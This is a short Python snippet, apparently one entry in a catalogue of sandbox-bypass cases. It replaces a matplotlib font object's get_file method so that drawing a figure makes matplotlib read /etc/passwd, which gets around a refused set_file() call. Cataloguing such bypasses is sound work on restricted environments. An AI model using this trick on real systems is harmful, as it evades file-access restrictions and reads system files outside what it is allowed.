# class: data
# mechanism: reader by path
# how: the font of a text is an object that is asked get_file() when it is drawn: the program writes that method on it (set_file() is refused), as it may write get_usetex on the text
# reaches: reads /etc/passwd
import matplotlib.pyplot as plt

def get_file():
    return "/etc/passwd"

title = plt.title("x")
font = title.get_fontproperties()
font.get_file = get_file
plt.gcf().canvas.draw()
